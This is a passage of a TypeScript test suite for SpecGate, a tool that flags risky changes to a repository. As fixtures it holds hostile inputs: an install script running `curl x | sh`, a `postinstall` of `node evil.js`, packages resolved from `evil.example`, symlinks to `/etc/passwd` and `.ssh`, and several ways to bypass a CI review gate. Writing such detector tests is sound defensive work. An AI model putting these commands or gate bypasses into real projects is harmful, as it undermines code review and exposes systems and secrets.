      assert.deepEqual(found(edit('package.json', pkg('vitest run'), pkg('vitest run; exit 0'))), { 'package.json': ['new:3 (warning) makes the `test` script pass whatever its checks find (`vitest run; exit 0`)'] });
      assert.deepEqual(found(edit('package.json', pkg('jest'), pkg('jest --passWithNoTests'))), { 'package.json': ['new:3 (warning) makes the `test` script pass when it finds no tests at all (`jest --passWithNoTests`)'] });
    });

    it('not a script that already passed anyway, a threshold raised, a new test file with plain tests, or a strict flag left on', () => {
      const pkg = (test: string, n: number) => lines('{', '  "scripts": {', `    "test": "${test}"`, '  },', `  "c8": { "lines": ${n} }`, '}');
      assert.deepEqual(found(edit('package.json', pkg('vitest || true', 80), pkg('vitest run || true', 85))), {});
      assert.deepEqual(found(edit('src/a.test.ts', undefined, lines("it('works', () => {});"))), {});
      const ts = lines('{', '  "compilerOptions": {', '    "strict": true', '  }', '}');
      assert.deepEqual(found(edit('tsconfig.json', ts, ts.replace('"strict": true', '"strict": true,\n    "skipLibCheck": true'))), {});
      assert.equal(readsContent('src/retry.ts'), false);
    });
  });

  describe('secrets', () => {
    it('a private key or a token written into a read file is an error that never quotes it; not a placeholder or a line already there', () => {
      const token = 'ghp_' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8';
      const key = ['{', '  "type": "service_account",', '  "private_key": "-----BEGIN PRIVATE KEY-----\\nMIIE\\n-----END PRIVATE KEY-----\\n"', '}'];
      const said = (what: string) => `writes what looks like ${what} into the repository (not quoted here): a secret committed stays in its history, so revoke it rather than only delete it`;
      const got = found(
        edit('deploy/sa.json', undefined, lines(...key)),
        edit('.env.example', lines('PORT=3000'), lines('PORT=3000', `GITHUB_TOKEN=${token}`, 'STRIPE_KEY=sk_live_your_key_here')),
        edit('config/app.toml', lines(`token = "${token}"`), lines(`token = "${token}"`, 'port = 1')),
      );
      assert.deepEqual(got, { 'deploy/sa.json': [`new:3 ${said('a private key')}`], '.env.example': [`new:2 ${said('a GitHub token')}`] });
      assert.ok(!JSON.stringify(got).includes(token));
      // Placeholders and documented examples are no secrets; a Google browser key (meant to ship in an app) is a warning.
      const templates = lines('STRIPE_SECRET_KEY=sk_live_xxxxxxxxxxxxxxxxxxxxxxxx', 'OPENAI_API_KEY=sk-proj-XXXXXXXXXXXXXXXXXXXXXXXXXXXX', 'GITHUB_TOKEN=ghp_' + 'x'.repeat(36), 'SLACK=xoxb-your-bot-token-here', 'AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE', 'AI=sk-proj-your-api-key-here-and-more');
      assert.deepEqual(found(edit('.env.example', undefined, templates + lines('PRIVATE_KEY="-----BEGIN PRIVATE KEY-----\\nyour-key-here\\n-----END PRIVATE KEY-----"', 'DB=postgres://app:yourpassword@db.prod.internal/x', 'AWS=AKIA1234567890ABCDEF'))), {});
      assert.deepEqual(found(edit('android/app/google-services.json', undefined, lines('{ "current_key": "AIzaSyD9f3Kq2LmZ8xR4tW7vB1nC5hJ0pE6uYsQ" }'))), {
        'android/app/google-services.json': ['new:1 (warning) writes what looks like a Google API key into the repository (not quoted here): browser and Firebase keys ship in apps and are restricted by the referrers and APIs they allow; a server key must be revoked'],
      });
      // A password in a URL to a real host; not a placeholder, a development default or an example host.
      const urls = lines('DATABASE_URL=postgres://app:Sup3rS3cret@prod-db.internal:5432/billing', 'DEV_URL=postgres://postgres:postgres@db:5432/x', 'LOCAL=mysql://app:hunter22@localhost/x', 'TPL=postgres://app:${DB_PASSWORD}@db.prod.internal/x', 'DOC=https://user:hunter22@api.example.com/', 'HOOK=https://user:token@hooks.corp.internal/');
      assert.deepEqual(found(edit('config/app.env', undefined, urls)), { 'config/app.env': [`new:1 ${said('a password in a URL')}`] });
      // A key in test data is most often made up for the test: a warning.
      assert.deepEqual(found(edit('test/fixtures/key.pem', undefined, lines('-----BEGIN RSA PRIVATE KEY-----', 'MIIE', '-----END RSA PRIVATE KEY-----'))), { 'test/fixtures/key.pem': [`new:1 (warning) ${said('a private key')}`] });
    });
  });

  describe("SpecGate's own gate", () => {
    const hook = lines('#!/bin/sh', 'npx lint-staged', 'npx --no-install specgate verify --staged || exit 1');
    const ci = lines('jobs:', '  gate:', '    steps:', '      - run: npx --no-install specgate verify --base refs/remotes/origin/main');

    it('a gate line taken out, commented out or its file deleted; one that ignores its answer', () => {
      assert.deepEqual(found(edit('.husky/pre-commit', hook, lines('#!/bin/sh', 'npx lint-staged'))), {
        '.husky/pre-commit': ["old:3 takes out a line that runs SpecGate's gate (`npx --no-install specgate verify --staged || exit 1`): what it gated goes through without an approval"],
      });
      assert.deepEqual(found(edit('tools/hooks/pre-commit', hook, hook.replace('npx --no-install', '# npx --no-install'))), {
        'tools/hooks/pre-commit': ["old:3 takes out a line that runs SpecGate's gate (`npx --no-install specgate verify --staged || exit 1`): what it gated goes through without an approval"],
      });
      assert.deepEqual(found(edit('.github/workflows/ci.yml', ci, undefined)), {
        '.github/workflows/ci.yml': ["old:4 takes out a line that runs SpecGate's gate (`- run: npx --no-install specgate verify --base refs/remotes/origin/main`): what it gated goes through without an approval"],
      });
      assert.deepEqual(found(edit('.husky/pre-commit', hook, hook.replace('|| exit 1', '|| true'))), {
        '.husky/pre-commit': ["new:3 runs SpecGate's gate but goes on whatever it answers (`npx --no-install specgate verify --staged || true`)"],
      });
    });

    it('second look: a step allowed to fail, an early exit, `|| echo`; not a gate moved into a script, split over lines, or only named in an issue template or another tool', () => {
      const ciStep = lines('jobs:', '  gate:', '    steps:', '      - name: gate', '        run: npx --no-install specgate verify --base refs/remotes/origin/main', '      - run: npm test');
      assert.deepEqual(found(edit('.github/workflows/ci.yml', ciStep, ciStep.replace('      - run: npm test', '        continue-on-error: true\n      - run: npm test'))), {
        '.github/workflows/ci.yml': ["new:6 lets the step or job that runs SpecGate's gate fail, or skips it (`continue-on-error: true`): the run passes whatever the gate answers"],
      });
      assert.deepEqual(found(edit('.husky/pre-commit', hook, hook.replace('npx lint-staged', 'npx lint-staged\nexit 0'))), {
        '.husky/pre-commit': ["new:3 exits before the line that runs SpecGate's gate (line 4): the gate never runs"],
      });
      assert.deepEqual(found(edit('.husky/pre-commit', hook, hook.replace('npx --no-install specgate', '[ -n "$SKIP_GATE" ] || npx --no-install specgate'))), {
        '.husky/pre-commit': ['new:3 (warning) runs SpecGate\'s gate only when a condition holds (`[ -n "$SKIP_GATE" ] || npx --no-install specgate verify --staged || exit 1`): whoever can set it skips the gate'],
      });
      // Guards on SpecGate being there, or on CI, and a set +e whose status is read, are no way around it; a conditional exit is a warning.
      for (const guard of ['[ -x node_modules/.bin/specgate ] && ', 'test -f .specgate/config.yml && ', '[ -n "$CI" ] || ']) assert.deepEqual(found(edit('.husky/pre-commit', hook, hook.replace('npx --no-install specgate', `${guard}npx --no-install specgate`))), {}, guard);
      assert.deepEqual(found(edit('.githooks/pre-commit', undefined, lines('#!/bin/sh', 'set +e', 'npx --no-install specgate verify --staged', 'status=$?', 'npm test', 'exit $status'))), {});
      assert.deepEqual(found(edit('.husky/pre-commit', hook, hook.replace('npx lint-staged', 'if [ "$GIT_REFLOG_ACTION" = "rebase" ]; then exit 0; fi'))), {
        '.husky/pre-commit': ['new:2 (warning) exits before SpecGate\'s gate (line 3) when a condition holds (`if [ "$GIT_REFLOG_ACTION" = "rebase" ]; then exit 0; fi`): the gate is skipped then'],
      });
      // Another step allowed to fail is not the gate's; the gate's job is.
      const job = lines('jobs:', '  gate:', '    runs-on: ubuntu-latest', '    steps:', '      - run: npx specgate verify --base refs/remotes/origin/main', '      - run: npx codecov');
      assert.deepEqual(found(edit('.github/workflows/ci.yml', job, job + lines('        continue-on-error: true'))), {});
      assert.deepEqual(found(edit('.github/workflows/ci.yml', job, job.replace('    runs-on:', '    continue-on-error: true\n    runs-on:'))), {
        '.github/workflows/ci.yml': ["new:3 lets the step or job that runs SpecGate's gate fail, or skips it (`continue-on-error: true`): the run passes whatever the gate answers"],
      });
      const gitlab = lines('gate:', '  stage: test', '  script:', '    - npx specgate verify --base refs/remotes/origin/main');
      assert.deepEqual(found(edit('.gitlab-ci.yml', gitlab, gitlab.replace('  stage: test', '  stage: test\n  allow_failure: true'))), {
        '.gitlab-ci.yml': ["new:3 lets the step or job that runs SpecGate's gate fail, or skips it (`allow_failure: true`): the run passes whatever the gate answers"],
      });
      const bare = lines('#!/bin/sh', 'npx --no-install specgate verify --staged', 'npx lint-staged');
      assert.deepEqual(found(edit('.githooks/pre-commit', bare, bare.replace('#!/bin/sh', '#!/bin/sh\nset +e'))), {
        '.githooks/pre-commit': ["new:2 turns off stopping on errors (`set +e`) before SpecGate's gate (line 3), which the hook then runs past"],
      });
      assert.deepEqual(found(edit('.husky/pre-commit', hook, hook.replace('|| exit 1', '|| echo "gate failed"'))), {
        '.husky/pre-commit': ['new:3 runs SpecGate\'s gate but goes on whatever it answers (`npx --no-install specgate verify --staged || echo "gate failed"`)'],
      });
      assert.deepEqual(found(edit('.husky/pre-commit', hook, lines('#!/bin/sh', './scripts/gate.sh')), edit('scripts/gate.sh', undefined, lines('#!/bin/sh', 'npx --no-install specgate \\', '  verify --staged || exit 1'))), {});
      const issue = lines('body:', '  - type: textarea', '    attributes:', '      label: Output of `npx specgate verify`');
      assert.deepEqual(found(edit('.github/ISSUE_TEMPLATE/bug.yml', issue, lines('body: []'))), {});
      const pkg = (s: string) => lines('{', '  "scripts": {', s, '  }', '}');
      assert.deepEqual(found(edit('package.json', pkg('    "check": "node scripts/cli.js verify-dist"'), pkg('    "check": "tsc"'))), {});
    });

    it('third look: a CI gate made to check an empty change, piped into another command, or taken out of the required checks; a Makefile gate is read', () => {
      const ci = lines('jobs:', '  gate:', '    steps:', '      - run: npx --no-install specgate verify --base refs/remotes/origin/main');
      assert.deepEqual(found(edit('.github/workflows/gate.yml', ci, ci.replace('--base refs/remotes/origin/main', '--staged'))), {
        '.github/workflows/gate.yml': ["new:4 makes SpecGate's gate check an empty change (`- run: npx --no-install specgate verify --staged`): in CI the index and `HEAD` hold nothing to approve, so it passes; CI checks `--base` the target branch"],
      });
      assert.deepEqual(found(edit('.github/workflows/gate.yml', ci, ci.replace('npx --no-install specgate verify --base refs/remotes/origin/main', 'npx specgate verify --base origin/main | tee log'))), {
        '.github/workflows/gate.yml': ["new:4 pipes SpecGate's gate into another command (`- run: npx specgate verify --base origin/main | tee log`): without `pipefail` the shell takes that command's status, so the gate's answer is lost"],
      });
      // `shell: bash` runs with pipefail in GitHub Actions.
      assert.deepEqual(found(edit('.github/workflows/gate.yml', ci, ci.replace('npx --no-install specgate verify --base refs/remotes/origin/main', 'npx specgate verify --base origin/main | tee log\n        shell: bash'))), {});
      const make = lines('check:', '\tnpx --no-install specgate verify --base refs/remotes/origin/main', '\tnpm test');
      assert.deepEqual(found(edit('Makefile', make, make.replace('npx --no-install specgate verify --base refs/remotes/origin/main', 'echo skipped'))), {
        Makefile: ["old:2 takes out a line that runs SpecGate's gate (`npx --no-install specgate verify --base refs/remotes/origin/main`): what it gated goes through without an approval"],
      });
      const settings = lines('branches:', '  - name: main', '    protection:', '      required_status_checks:', '        contexts: ["test", "specgate"]');
      assert.deepEqual(found(edit('.github/settings.yml', settings, settings.replace(', "specgate"', ''))), {
        '.github/settings.yml': ['old:5 takes SpecGate out of the required status checks: a branch can merge without its approval'],
      });
      // The hook's own --staged is its job.
      assert.deepEqual(found(edit('.husky/pre-commit', undefined, lines('npx --no-install specgate verify --staged || exit 1'))), {});
    });

    it('not a gate moved to another file of the change, re-worded, or lines beside it', () => {
      assert.deepEqual(found(edit('.husky/pre-commit', hook, undefined), edit('lefthook.yml', undefined, lines('pre-commit:', '  commands:', '    gate:', '      run: npx --no-install specgate verify --staged'))), {});
      assert.deepEqual(found(edit('.github/workflows/ci.yml', ci, ci.replace('refs/remotes/origin/main', 'refs/remotes/origin/release'))), {});
      assert.deepEqual(found(edit('.husky/pre-commit', hook, hook.replace('npx lint-staged', 'npx lint-staged --quiet'))), {});
      assert.equal(readsContent('.husky/pre-commit'), true);
      assert.equal(readsContent('src/hooks/useGate.ts'), false);
    });
  });

  describe('third review (session 31)', () => {
    it('SQL: a seed or fixture that drops is a warning; a table the file made before it drops is none', () => {
      const seed = lines('DROP TABLE IF EXISTS invoices;', 'CREATE TABLE invoices (id int);', 'DELETE FROM invoices;');
      assert.deepEqual(found(edit('test/fixtures/seed.sql', undefined, seed), edit('db/migrations/003_copy.sql', undefined, lines('CREATE TEMP TABLE t AS SELECT * FROM a;', 'DROP TABLE t;'))), {
        'test/fixtures/seed.sql': ['new:1 (warning) runs `DROP TABLE`: data is lost', 'new:3 (warning) runs `DELETE FROM` with no `WHERE`: every row is deleted'],
      });
      assert.deepEqual(found(edit('db/migrations/004.sql', undefined, seed)), {
        'db/migrations/004.sql': ['new:1 runs `DROP TABLE`: data is lost', 'new:3 runs `DELETE FROM` with no `WHERE`: every row is deleted'],
      });
    });

    it('CloudFormation: a resource removed (not one kept by its DeletionPolicy), a keeping DeletionPolicy taken away', () => {
      const template = lines(
        'AWSTemplateFormatVersion: "2010-09-09"',
        'Resources:',
        '  InvoicesTable:',
        '    Type: AWS::DynamoDB::Table',
        '    DeletionPolicy: Retain',
        '    Properties:',
        '      TableName: invoices',
        '  Queue:',
        '    Type: AWS::SQS::Queue',
        '  Logs:',
        '    Type: AWS::Logs::LogGroup',
        '    DeletionPolicy: Retain',
        'Outputs:',
        '  QueueUrl:',
        '    Value: !Ref Queue',
      );
      const edited = template.replace('    DeletionPolicy: Retain\n    Properties:', '    Properties:').replace('  Queue:\n    Type: AWS::SQS::Queue\n', '').replace('  Logs:\n    Type: AWS::Logs::LogGroup\n    DeletionPolicy: Retain\n', '');
      assert.deepEqual(found(edit('infra/template.yaml', template, edited)), {
        'infra/template.yaml': ['old:5 takes `DeletionPolicy: Retain` from `InvoicesTable`: removing it from the template, or deleting the stack, now deletes it', 'old:8 removes the resource `Queue` (`AWS::SQS::Queue`): CloudFormation deletes it'],
      });
      assert.deepEqual(found(edit('infra/template.yaml', template, template.replace('TableName: invoices', 'TableName: invoices\n      BillingMode: PAY_PER_REQUEST'))), {});
      const json = JSON.stringify({ Resources: { Bucket: { Type: 'AWS::S3::Bucket', DeletionPolicy: 'Retain' } } }, null, 2);
      assert.deepEqual(found(edit('cfn/stack.json', json, json.replace('"Retain"', '"Delete"'))), {
        'cfn/stack.json': ['new:5 sets `DeletionPolicy: Delete` on `Bucket`, which kept it (`Retain`): removing it from the template, or deleting the stack, now deletes it'],
      });
    });

    it('a binary program or library, or any binary made executable, is a warning; an image is not', () => {
      const bin = (path: string, extra: Partial<FileChange> = {}): FileChange => ({ path, status: 'added', binary: true, added: 0, removed: 0, hunks: [], newMode: '100644', ...extra });
      const said = 'is a binary program or library (not text, so there is no diff to review): confirm where it comes from, and that the repository can build it from source';
      assert.deepEqual(found(bin('src/billing/helper.node'), bin('src/billing/run', { newMode: '100755' }), bin('media/logo.png'), bin('lib/x.wasm', { status: 'deleted' })), {
        'src/billing/helper.node': [`new:0 (warning) ${said}`],
        'src/billing/run': [`new:0 (warning) ${said}`],
      });
    });

    it('CloudFormation, second look: quoted types; a resource moved into another file of the change a warning; a conditional DeletionPolicy a warning', () => {
      const t = lines('Resources:', '  Queue:', "    Type: 'AWS::SQS::Queue'", '  Bucket:', '    Type: AWS::S3::Bucket', '    DeletionPolicy: Retain');
      assert.deepEqual(found(edit('template.yaml', t, t.replace("'AWS::SQS::Queue'", 'AWS::SQS::Queue'))), {});
      assert.deepEqual(found(edit('template.yaml', t, lines('Resources:', '  Bucket:', '    Type: AWS::S3::Bucket', '    DeletionPolicy: !If [IsProd, Retain, Delete]'))), {
        'template.yaml': [
          "old:2 removes the resource `Queue` (`AWS::SQS::Queue`): CloudFormation deletes it",
          'new:4 (warning) makes `DeletionPolicy` of `Bucket` conditional, where it was `Retain`: where the condition picks `Delete`, removing it from the template, or deleting the stack, deletes it',
        ],
      });
      const sls = lines('service: users', 'resources:', '  Resources:', '    UsersTable:', '      Type: AWS::DynamoDB::Table');
      assert.deepEqual(found(edit('serverless.yml', sls, lines('service: users', 'resources:', '  - ${file(resources/dynamo.yml)}')), edit('resources/dynamo.yml', undefined, lines('Resources:', '  UsersTable:', '    Type: AWS::DynamoDB::Table'))), {
        'serverless.yml': ['old:4 (warning) moves the resource `UsersTable` (`AWS::DynamoDB::Table`) to `resources/dynamo.yml`: if that is another stack, CloudFormation deletes it from this one'],
      });
    });

    it('Kubernetes: a workload scaled to zero is a warning', () => {
      const dep = lines('kind: Deployment', 'metadata:', '  name: api', 'spec:', '  replicas: 3');
      assert.deepEqual(found(edit('k8s/api.yaml', dep, dep.replace('replicas: 3', 'replicas: 0'))), { 'k8s/api.yaml': ['new:5 (warning) scales a workload to `replicas: 0`: it stops serving'] });
      // A new object that starts at zero beside one that serves is not scaled down.
      assert.deepEqual(found(edit('k8s/api.yaml', dep, dep + lines('---', 'kind: Deployment', 'metadata:', '  name: worker', 'spec:', '  replicas: 0'))), {});
    });

    it('package.json: a dependency taken from a URL, git or a GitHub shorthand is a warning; a registry range or a local folder is not', () => {
      const pkg = (deps: Record<string, string>) => JSON.stringify({ name: 'x', dependencies: deps }, null, 2) + '\n';
      const before = pkg({ express: '^4.19.0' });
      const after = pkg({ express: 'github:someone/express#main', 'p-retry': 'https://files.example.net/p-retry-6.2.0.tgz', ui: 'file:../ui', lodash: '^4.17.21' });
      assert.deepEqual(found(edit('package.json', before, after)), {
        'package.json': [
          'new:4 (warning) takes the package `express` from `github:someone/express#main`, not from the registry: what is installed is whatever that source serves',
          'new:5 (warning) takes the package `p-retry` from `https://files.example.net/p-retry-6.2.0.tgz`, not from the registry: what is installed is whatever that source serves',
        ],
      });
    });
  });

  describe('workflows', () => {
    it("SpecGate's own recommended workflow (docs/ci.md) checks the head out as data: a warning; the same with a step that runs the checkout, an error", () => {
      const doc = readFileSync(path.join(__dirname, '../../docs/ci.md'), 'utf8');
      const wf = /```yaml\n(# \.github\/workflows\/specgate\.yml[\s\S]*?)```/.exec(doc)![1]!;
      const said = (f: Record<string, string[]>) => (f['.github/workflows/specgate.yml'] ?? []).map((d) => d.replace(/, which has.*$/, ''));
      assert.deepEqual(said(found(edit('.github/workflows/specgate.yml', undefined, wf))), ["new:21 (warning) checks out the pull request's head in a `pull_request_target` workflow"]);
      const runs = wf.replace('      - uses: actions/setup-node@v4', '      - run: npm ci\n      - uses: actions/setup-node@v4');
      assert.deepEqual(said(found(edit('.github/workflows/specgate.yml', undefined, runs))), ["new:21 runs the pull request's own code (its head) in a `pull_request_target` workflow"]);
    });

    it('a pull_request_target workflow that runs the pull request\'s code is an error; the trigger alone a warning; a guard that names it nothing', () => {
      const base = lines('on: [pull_request]', 'jobs:', '  test:', '    steps:', '      - uses: actions/checkout@v4', '        with:', '          ref: ${{ github.event.pull_request.head.sha }}');
      assert.deepEqual(found(edit('.github/workflows/ci.yml', base, base.replace('[pull_request]', '[pull_request_target]'))), {
        '.github/workflows/ci.yml': ["new:7 runs the pull request's own code (its head) in a `pull_request_target` workflow, which has the base repository's token and secrets"],
      });
      const labeler = lines('name: labeler', 'on: pull_request_target', 'jobs:', '  label:', '    steps:', '      - uses: actions/labeler@v5');
      assert.deepEqual(found(edit('.github/workflows/labeler.yml', undefined, labeler)), {
        '.github/workflows/labeler.yml': ["new:2 (warning) runs on `pull_request_target`, with the base repository's token and secrets, for pull requests from forks"],
      });
      const guard = lines('on: [push]', 'jobs:', '  deploy:', "    if: github.event_name != 'pull_request_target'");
      assert.deepEqual(found(edit('.github/workflows/d.yml', lines('on: [push]', 'jobs: {}'), guard)), {});
      // An existing trigger written as a block list is no new trigger.
      assert.deepEqual(found(edit('.github/workflows/labeler.yml', labeler, labeler.replace('on: pull_request_target', 'on:\n  pull_request_target:\n  issues:'))), {});
    });

    it('escaped or quoted, the trigger and write-all are still read', () => {
      const hidden = lines('on: ["pull_request_\\u0074arget"]', 'permissions: "write-all"', 'jobs:', '  x:', '    steps:', '      - uses: actions/checkout@v4', '        with: { ref: "${{ github.head_ref }}" }');
      assert.deepEqual(found(edit('.github/workflows/x.yml', lines('on: [push]'), hidden)), {
        '.github/workflows/x.yml': ["new:7 runs the pull request's own code (its head) in a `pull_request_target` workflow, which has the base repository's token and secrets", 'new:2 grants `permissions: write-all`'],
      });
    });

    it('a fork guard and a concurrency group name the head without running it; gh pr checkout runs it; an artifact step only bumped is not new', () => {
      const labeler = lines('on: pull_request_target', 'concurrency: pr-${{ github.head_ref }}', 'jobs:', '  x:', '    if: github.event.pull_request.head.repo.full_name == github.repository', '    steps:', '      - uses: actions/labeler@v5');
      assert.deepEqual(found(edit('.github/workflows/l.yml', labeler, labeler.replace('@v5', '@v6'))), {});
      assert.deepEqual(found(edit('.github/workflows/l.yml', labeler, labeler + lines('      - run: gh pr checkout ${{ github.event.number }} && npm test'))), {
        '.github/workflows/l.yml': ["new:8 runs the pull request's own code (its head) in a `pull_request_target` workflow, which has the base repository's token and secrets"],
      });
      const after = lines('on:', '  workflow_run:', '    workflows: [ci]', 'jobs:', '  x:', '    steps:', '      - uses: actions/download-artifact@v3');
      assert.deepEqual(found(edit('.github/workflows/after.yml', after, after.replace('@v3', '@v4'))), {});
    });

    it('a workflow_run workflow that takes another run\'s artifact', () => {
      const after = lines('on:', '  workflow_run:', '    workflows: [ci]', 'jobs:', '  x:', '    steps:', '      - uses: actions/download-artifact@v4', '      - run: bash ./artifact/script.sh');
      assert.deepEqual(found(edit('.github/workflows/after.yml', undefined, after)), {
        '.github/workflows/after.yml': ["new:7 takes another run's artifact or head in a `workflow_run` workflow, which has the base repository's token and secrets"],
      });
    });
  });

  it('a Dockerfile whose base image comes from elsewhere; a new stage\'s image a warning; not a tag, a stage name, scratch or Docker Hub\'s long name', () => {
    const before = lines('FROM node:20-alpine AS build', 'RUN npm ci');
    assert.deepEqual(found(edit('Dockerfile', before, before.replace('node:20-alpine', 'node:22-alpine'))), {});
    assert.deepEqual(found(edit('Dockerfile', before, before.replace('node:20-alpine', 'docker.io/library/node:20-alpine'))), {});
    assert.deepEqual(found(edit('Dockerfile', before, before.replace('node:20-alpine', 'public.ecr.aws/docker/library/node:20-alpine'))), {});
    assert.deepEqual(found(edit('svc/Dockerfile.prod', before, before.replace('node:20-alpine', 'ghcr.io/someone/node:latest'))), {
      'svc/Dockerfile.prod': ['new:1 takes its base image from `ghcr.io/someone/node` instead of `node`'],
    });
    assert.deepEqual(found(edit('Dockerfile', before, before + lines('FROM build AS test', 'RUN npm test', 'FROM scratch', 'COPY --from=build /app /app'))), {});
    assert.deepEqual(found(edit('Dockerfile', before, lines('FROM ghcr.io/other/toolbox:1 AS tools') + before)), {
      Dockerfile: ['new:1 (warning) pulls a new image into the build: `ghcr.io/other/toolbox`'],
    });
  });

  it('Kubernetes: a Namespace or volume claim removed and not declared again anywhere in the change, by kind and name', () => {
    const ns = lines('apiVersion: v1', 'kind: Namespace', 'metadata:', '  name: billing');
    const pvc = lines('apiVersion: v1', 'kind: PersistentVolumeClaim', 'metadata:', '  name: data');
    assert.deepEqual(found(edit('deploy/namespace.yaml', ns, undefined), edit('deploy/pvc.yaml', pvc, pvc.replace('name: data', 'name: data2'))), {
      'deploy/namespace.yaml': ['old:2 removes the Namespace `billing`: deleting a Namespace deletes everything in it'],
      'deploy/pvc.yaml': ['old:2 removes the PersistentVolumeClaim `data`: its volume, and the data on it, can be deleted with it'],
    });
    // A manifest split into files: the same objects, declared again.
    assert.deepEqual(found(edit('deploy/all.yaml', `${ns}---\n${pvc}`, undefined), edit('deploy/ns.yaml', undefined, ns), edit('deploy/storage.yaml', undefined, pvc)), {});
    assert.deepEqual(found(edit('deploy/app.yaml', lines('kind: Deployment'), undefined)), {});
    assert.deepEqual(found(edit('deploy/odd.yaml', lines('kind: constructor', 'kind: __proto__', 'kind: toString'), undefined)), {});
  });

  it('package.json: an install script set or changed, also escaped; not one only moved or re-indented; pack scripts said as such', () => {
    const pkg = lines('{', '    "scripts": {', '        "build": "tsc",', '        "postinstall": "patch-package",', '        "test": "vitest"', '    }', '}');
    const reindented = lines('{', '  "scripts": {', '    "test": "vitest",', '    "postinstall": "patch-package",', '    "lint": "eslint .",', '    "build": "tsc"', '  }', '}');
    assert.deepEqual(found(edit('package.json', pkg, reindented)), {});
    const evil = pkg.replace('"test": "vitest"', '"test": "vitest",\n        "post\\u0069nstall2": "x",\n        "prepack": "node pack.js"').replace('"postinstall": "patch-package"', '"post\\u0069nstall": "node evil.js"');
    assert.deepEqual(found(edit('package.json', pkg, evil)), {
      'package.json': ['new:4 sets the `postinstall` script, which the package manager runs on every install of the project', 'new:7 sets the `prepack` script, which the package manager runs when the package is packed or published'],
    });
  });

  it('package.json: a git-hook installer\'s documented setup script is a warning, anything else in it an error', () => {
    const pkg = lines('{', '  "scripts": { "test": "vitest" }', '}');
    assert.deepEqual(found(edit('package.json', pkg, pkg.replace('"test": "vitest"', '"test": "vitest", "prepare": "husky"'))), {
      'package.json': ['new:2 (warning) sets the `prepare` script, which the package manager runs on every install of the project'],
    });
    assert.deepEqual(found(edit('package.json', pkg, pkg.replace('"test": "vitest"', '"test": "vitest", "prepare": "husky && curl x | sh"'))), {
      'package.json': ['new:2 sets the `prepare` script, which the package manager runs on every install of the project'],
    });
  });

  it('lockfiles: a package from a host the old lockfile did not resolve from (a funding link is no registry); a new lockfile beyond the public registries', () => {
    const lock = lines('{', '  "node_modules/a": {', '    "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",', '    "funding": { "url": "https://evil.example/sponsor" }', '  }', '}');
    const swapped = lock.replace('}\n}', '},\n  "node_modules/b": {\n    "resolved": "https:\\/\\/evil.example/b.tgz"\n  }\n}');
    assert.deepEqual(found(edit('package-lock.json', lock, swapped)), { 'package-lock.json': ['new:7 resolves a package from `evil.example`, a host the lockfile did not resolve from before'] });
    assert.deepEqual(found(edit('web/package-lock.json', undefined, lock)), {});
    assert.deepEqual(found(edit('web/package-lock.json', undefined, swapped)), { 'web/package-lock.json': ['new:7 (warning) resolves a package from `evil.example`, no public registry'] });
    assert.deepEqual(found(edit('yarn.lock', lines('a@1:', '  resolved "https://registry.yarnpkg.com/a/-/a-1.tgz"'), lines('a@1:', '  resolved "https://evil.example/a-1.tgz"'))), {
      'yarn.lock': ['new:2 resolves a package from `evil.example`, a host the lockfile did not resolve from before'],
    });
    assert.deepEqual(found(edit('yarn.lock', lines('a@1:', '  resolved "https://registry.yarnpkg.com/a/-/a-1.tgz"'), lines('a@1:', '  resolved "https://registry.npmjs.org/a/-/a-1.tgz"'))), {});
    assert.deepEqual(found(edit('web/yarn.lock', lines('__metadata:'), lines('__metadata:', 'left-pad@npm:1:', '  resolution: "left-pad@https://evil.example/left-pad-1.3.0.tgz"'))), {
      'web/yarn.lock': ['new:3 resolves a package from `evil.example`, a host the lockfile did not resolve from before'],
    });
    assert.deepEqual(found(edit('pnpm-lock.yaml', lines('lockfileVersion: 9'), lines('lockfileVersion: 9', '  resolution: {tarball: https://evil.example/left-pad-1.3.0.tgz}'))), {
      'pnpm-lock.yaml': ['new:2 resolves a package from `evil.example`, a host the lockfile did not resolve from before'],
    });
  });

  it('lockfiles: a host the base\'s .npmrc or .yarnrc.yml names is no new host', () => {
    assert.deepEqual(registryHosts('registry=https://npm.acme.internal/\n@acme:registry=https://scoped.acme.internal/npm/\n//npm.acme.internal/:_authToken=x\n'), ['npm.acme.internal', 'scoped.acme.internal']);
    assert.deepEqual(registryHosts('npmRegistryServer: "https://yarn.acme.internal"\n'), ['yarn.acme.internal']);
    const lock = lines('{', '  "node_modules/a": {', '    "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"', '  }', '}');
    const withAcme = lock.replace('}\n}', '},\n  "node_modules/@acme/ui": {\n    "resolved": "https://npm.acme.internal/@acme/ui/-/ui-2.0.0.tgz"\n  }\n}');
    assert.deepEqual(Object.keys(Object.fromEntries(findDangers([edit('package-lock.json', lock, withAcme)], new Set(['npm.acme.internal'])))), []);
    assert.deepEqual(Object.keys(found(edit('package-lock.json', lock, withAcme))), ['package-lock.json']);
  });

  it('a symbolic link out of the repository or into .git; not one that stays inside', () => {
    const linkTo = (path: string, target: string, status: FileChange['status'] = 'added') => ({ ...edit(path, undefined, target), status, newMode: '120000', hunks: [] });
    assert.deepEqual(
      found(linkTo('src/config.json', '/etc/passwd'), linkTo('src/keys', '../../root/.ssh'), linkTo('deploy/hooks', '../.git/hooks', 'modified'), linkTo('src/b.ts', 'a.ts'), linkTo('src/deep/c.ts', '../../lib/c.ts'), linkTo('src/main.tf', 'resource "x" "y" {')),
      {
        'src/config.json': ['new:0 is a symbolic link to `/etc/passwd`, outside the repository: whatever reads or copies it (a build, an upload) reaches that file'],
        'src/keys': ['new:0 is a symbolic link to `../../root/.ssh`, outside the repository: whatever reads or copies it (a build, an upload) reaches that file'],
        'deploy/hooks': ["new:0 is a symbolic link to `../.git/hooks`, into the repository's `.git` folder (hooks, config)"],
      },
    );
  });

  it('an unsaved buffer carries the texts, so the editor names the same dangers while typing; a symbolic link\'s buffer (its target\'s text) never', () => {
    const after = DB.replace('"primary"', '"main"');
    const live = overlayChange({ path: 'infra/main.tf', baseText: DB, text: after }).change!;
    assert.deepEqual(found(live), found(edit('infra/main.tf', DB, after)));
    assert.equal(found(live)['infra/main.tf']!.length, 1);
    const typedNew = overlayChange({ path: 'db/migrations/9.sql', baseText: null, text: lines('DROP TABLE users;') }).change!;
    assert.deepEqual(found(typedNew), { 'db/migrations/9.sql': ['new:1 runs `DROP TABLE`: data is lost'] });
